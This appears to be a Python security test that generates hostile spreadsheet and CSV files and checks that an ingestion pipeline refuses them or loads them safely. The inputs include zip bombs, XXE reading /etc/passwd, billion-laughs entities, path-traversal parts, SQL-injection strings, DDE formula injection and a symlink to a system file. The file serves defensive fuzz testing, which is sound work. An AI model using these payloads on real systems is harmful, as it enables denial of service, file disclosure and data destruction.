"""Files made to hurt: each is refused, or lands as the plain data it is, and harms nothing else.

    make campaign-hostile

All arrive together with one good file. Nothing outside the deployment may be written or read, no
text of a file may be run as SQL, no other file may be lost, and no file may take 30 seconds.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import duckdb
import xlsxwriter

from benchmarks.report import show
from pipelines.settings import Settings
from tests.campaigns.fuzz import DEPLOYMENT

GOALS: dict[str, float] = {
    "harmed": 0,
    "parent_deaths": 0,
    "hangs_over_30_s": 0,
    "child_peak_mb": 2048,
}
HEADER = "单据号,单据日期,商品编码,数量,金额"
ROW = "A1,2026-11-16,S1,3,9.90"
GOOD = f"{HEADER}\n{ROW}\n".encode()
SQL = "'); drop table landing.delivery; --"
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [%b]>'
XXE = b'<!ENTITY a SYSTEM "file:///etc/passwd">'
LAUGHS = b'<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%b">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)
)
MERGED = b'<mergeCells count="1"><mergeCell ref="B2:XFD1048576"/></mergeCells>'
LAST_ROW, LAST_COLUMN = 1_048_575, 16_383


@dataclass(frozen=True)
class Hostile:
    """A file made to hurt, and what may become of it.

    Attributes:
        name: What it is.
        data: Its bytes.
        allowed: Statuses or reasons that are no harm.
        file: Its name in the inbox; one of its own where that does not matter.
    """

    name: str
    data: bytes
    allowed: tuple[str, ...]
    file: str = ""


def book(fill: Callable[[xlsxwriter.Workbook], None], **options: bool) -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True, **options}) as workbook:
        fill(workbook)
    return buffer.getvalue()


def plain(workbook: xlsxwriter.Workbook, name: str = "Sheet1") -> None:
    sheet = workbook.add_worksheet(name)
    sheet.write_row(0, 0, HEADER.split(","))
    sheet.write_row(1, 0, ["A1", "2026-11-16", "S1", 3, 9.9])


def changed(change: Callable[[dict[str, bytes]], None], twice: str = "") -> bytes:
    """A plain workbook with its parts changed; one of them written twice."""
    with zipfile.ZipFile(io.BytesIO(book(plain))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        if twice:
            archive.writestr(twice, parts[twice].replace(b"<v>3</v>", b"<v>4</v>"))
    return buffer.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def in_sheet(old: bytes, new: bytes) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[SHEET]
        parts[SHEET] = parts[SHEET].replace(old, new, 1)

    return changed(change)


def with_part(name: str, data: bytes) -> bytes:
    return changed(lambda parts: parts.update({name: data}))


def with_prolog(entities: bytes, text: bytes) -> bytes:
    """Entities declared in the shared strings, and used there."""

    def change(parts: dict[str, bytes]) -> None:
        strings = parts["xl/sharedStrings.xml"].split(b"?>", 1)[1]
        strings = strings.replace(b"A1", text, 1)
        parts["xl/sharedStrings.xml"] = DOCTYPE % entities + strings

    return changed(change)


def sparse(workbook: xlsxwriter.Workbook) -> None:
    plain(workbook)
    workbook.worksheets()[0].write(LAST_ROW, LAST_COLUMN, "x")


def tall(workbook: xlsxwriter.Workbook) -> None:
    plain(workbook)
    workbook.worksheets()[0].write(LAST_ROW, 0, "A9")


def formulas(workbook: xlsxwriter.Workbook) -> None:
    sheet = workbook.add_worksheet()
    sheet.write_row(0, 0, HEADER.split(","))
    sheet.write_row(1, 0, ["", "2026-11-16", "S1", 3, 9.9], None)
    sheet.write_formula(1, 0, "=cmd|' /C calc'!A0", None, "A1")
    sheet.write_formula(2, 0, '=WEBSERVICE("http://127.0.0.1:9/"&A1)', None, "A2")
    sheet.write_row(2, 1, ["2026-11-16", "=1+1", 3, 9.9])


def nested(depth: int) -> bytes:
    return b"<row>" * depth + b"</row>" * depth


def many_parts() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(70_000):
            archive.writestr(f"xl/{number}.xml", b"")
    return buffer.getvalue()


def blanks(size: int) -> bytes:
    """A workbook with a part of blanks that unpacks to much more than it is."""
    buffer = io.BytesIO(book(plain))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        part = zipfile.ZipInfo("xl/worksheets/sheet2.xml")
        part.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(part, "w") as sink:
            for _ in range(size >> 20):
                sink.write(b" " * (1 << 20))
    return buffer.getvalue()


def lying_size() -> bytes:
    """A directory that promises a small sheet where a large one is packed."""
    data = bytearray(with_part(SHEET, b"<worksheet>" + b" " * (64 << 20) + b"</worksheet>"))
    size = (64 << 20) + 23
    packed = size.to_bytes(4, "little")
    at = data.find(packed)
    while at >= 0:
        data[at : at + 4] = (1000).to_bytes(4, "little")
        at = data.find(packed, at + 4)
    return bytes(data)


REFUSED = ("unreadable", "half_written")
LOADED = ("loaded", "superseded", "held")
HARMLESS = (*LOADED, *REFUSED)


def hostile() -> list[Hostile]:
    """Every file of the campaign."""
    long_name = "长" * 60 + ".csv"
    sql_header = f'{HEADER},"{SQL}","a""b",{{x}},$1,\\\n{ROW},1,2,3,4,5\n'.encode()
    sql_sheet = book(lambda w: plain(w, "x'); drop table y--"))
    return [
        Hostile("zip bomb: 1.1 GB of blanks in a part", blanks(1100 << 20), REFUSED),
        Hostile("zip bomb under the limit: 900 MB", blanks(900 << 20), HARMLESS),
        Hostile("size in the directory is a lie", lying_size(), REFUSED),
        Hostile("70,000 parts", many_parts(), REFUSED),
        Hostile("a part twice, with other numbers", changed(lambda p: None, SHEET), REFUSED),
        Hostile("two archives in one file", book(plain) + book(plain), REFUSED),
        Hostile("cells A1 and XFD1048576", book(sparse), REFUSED),
        Hostile("cells A1 and A1048576", book(tall), HARMLESS),
        Hostile("dimension A1:XFD1048576 that is not so",
                in_sheet(b'ref="A1:E2"', b'ref="A1:XFD1048576"'), HARMLESS),
        Hostile("merged B2:XFD1048576",
                in_sheet(b"</sheetData>", b"</sheetData>" + MERGED), HARMLESS),
        Hostile("row 4,294,967,296", in_sheet(b'<row r="2"', b'<row r="4294967296"'), HARMLESS),
        Hostile("column ZZZZZ", in_sheet(b'r="E2"', b'r="ZZZZZ2"'), HARMLESS),
        Hostile("external entity (XXE)", with_prolog(XXE, b"&a;"), REFUSED),
        Hostile("external entity in a sheet",
                in_sheet(b"<worksheet", DOCTYPE[21:] % XXE + b"<worksheet"), REFUSED),
        Hostile("billion laughs", with_prolog(LAUGHS, b"&j;"), REFUSED),
        Hostile("DTD in UTF-16", with_part("docProps/app.xml",
                (DOCTYPE % XXE).decode().encode("utf-16")), REFUSED),
        Hostile("elements nested 1,000,000 deep",
                in_sheet(b"<sheetData>", b"<sheetData>" + nested(1_000_000)), HARMLESS),
        Hostile("part ../../../tmp/daqu_was_here", with_part("../../../tmp/daqu_was_here", b"x"),
                REFUSED),
        Hostile("part /tmp/daqu_was_here", with_part("/tmp/daqu_was_here", b"x"), HARMLESS),
        Hostile("external link in the relationships", changed(
            lambda p: p.update({"xl/_rels/workbook.xml.rels": p["xl/_rels/workbook.xml.rels"]
            .replace(b'Target="worksheets', b'TargetMode="External" Target="file:///etc')})),
            HARMLESS),
        Hostile("formulas that run programs", book(formulas), LOADED),
        Hostile("formula texts in a CSV",
                f"{HEADER}\n=cmd|' /C calc'!A0,2026-11-16,@SUM(1),3,9.9\n".encode(), LOADED),
        Hostile("SQL in headers", sql_header, LOADED),
        Hostile("SQL in cells", f"{HEADER}\n{SQL},2026-11-16,{SQL},3,9.9\n".encode(), LOADED),
        Hostile("SQL in the sheet's name", sql_sheet, LOADED),
        Hostile("SQL in the file name", GOOD, LOADED, f"{SQL}.csv".replace("/", "")),
        Hostile("glob name a[1].csv", GOOD, LOADED, "a[1].csv"),
        Hostile("glob name *.csv", GOOD, LOADED, "*.csv"),
        Hostile("glob name {a,b}?.csv", GOOD, LOADED, "{a,b}?.csv"),
        Hostile("name with a line break", GOOD, LOADED, "a\nb.csv"),
        Hostile("name of 180 bytes", GOOD, LOADED, long_name),
        Hostile("name a..csv", GOOD, LOADED, "a..csv"),
        Hostile("name CON.csv", GOOD, LOADED, "CON.csv"),
        Hostile("line of 8 MB", f"{HEADER}\nA1,2026-11-16,{'x' * (8 << 20)},3,9.9\n".encode(),
                HARMLESS),
        Hostile("row of a million cells", f"{HEADER}\n{ROW}{',' * 1_000_000}\n".encode(), HARMLESS),
        Hostile("header of 100,000 columns", (HEADER + ",x" * 100_000 + f"\n{ROW}\n").encode(),
                REFUSED),
        Hostile("200,000 quotes", f"{HEADER}\n".encode() + b'"' * 200_000, HARMLESS),
        Hostile("200,000 lines with a stray quote",
                f"{HEADER}\n".encode() + f'"{ROW}\n'.encode() * 200_000, HARMLESS),
        Hostile("UTF-16 without an end", b"\xff\xfe" + GOOD, (*HARMLESS, "binary_file",
                "unknown_header", "garbled_text")),
        Hostile("password", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
                + "EncryptedPackage".encode("utf-16-le"), ("password_protected",)),
    ]  # fmt: skip


def campaign() -> tuple[list[list[str]], dict[str, float]]:
    """Land them all: lines of the table, and the figures."""
    files = hostile()
    with tempfile.TemporaryDirectory() as name:
        home = Path(name) / "home"
        names = _put(files, home)
        secret = Path(name) / "secret.csv"
        secret.write_bytes(GOOD)
        link = home / "inbox" / "DLINK" / "sellout" / "link_2026-W47.csv"
        link.parent.mkdir(parents=True)
        link.symlink_to("/etc/hostname")
        command = [sys.executable, "-m", "tests.campaigns.fuzz", str(home)]
        before = set(Path(tempfile.gettempdir()).glob("daqu_was_here*"))
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        if done.returncode:
            print(done.stderr[-3000:], file=sys.stderr)
            return [], {"harmed": len(files), "parent_deaths": 1}
        told = json.loads(done.stdout.splitlines()[-1])
        found = _outcomes(home)
        written = set(Path(tempfile.gettempdir()).glob("daqu_was_here*")) - before
    rows, harmed = [], len(written)
    for file_name, sample in names.items():
        outcome = found.get(file_name, "nothing")
        is_allowed = outcome in sample.allowed
        harmed += not is_allowed
        rows.append([sample.name, outcome, "" if is_allowed else "HARM"])
    outcome = found.get("DLINK/sellout/link_2026-W47.csv", "left where it is")
    harmed += outcome != "left where it is"
    rows.append(["name that is a link to a file elsewhere", outcome, ""])
    harmed += found["GOOD/sellout/2026-W47.csv"] != "loaded"
    figures = {
        "files": len(rows),
        "harmed": harmed,
        "parent_deaths": 0,
        "hangs_over_30_s": int(told["seconds"] > 30),
        "slowest_seconds": round(told["seconds"], 2),
        "child_peak_mb": round(told["child_kb"] / 1024),
    }
    return rows, figures


def _put(files: list[Hostile], home: Path) -> dict[str, Hostile]:
    home.mkdir()
    (home / "deployment.yaml").write_text(DEPLOYMENT)
    names = {}
    for number, sample in enumerate(files):
        ending = "xlsx" if sample.data.startswith((b"PK", b"\xd0")) else "csv"
        name = f"D{number:03d}/sellout/{sample.file or f'2026-W47.{ending}'}"
        _write(home / "inbox" / name, sample.data)
        names[name] = sample
    _write(home / "inbox" / "GOOD" / "sellout" / "2026-W47.csv", GOOD)
    return names


def _write(file: Path, data: bytes) -> None:
    file.parent.mkdir(parents=True)
    file.write_bytes(data)


def _outcomes(home: Path) -> dict[str, str]:
    with duckdb.connect(str(Settings.load(home).warehouse_file), read_only=True) as con:
        rows = con.execute(
            "select file_name, coalesce(reason_code, status), status from landing.delivery"
        ).fetchall()
    return {name: reason if status == "refused" else status for name, reason, status in rows}


if __name__ == "__main__":
    show("hostile", ["what", "outcome", ""], *campaign(), GOALS)
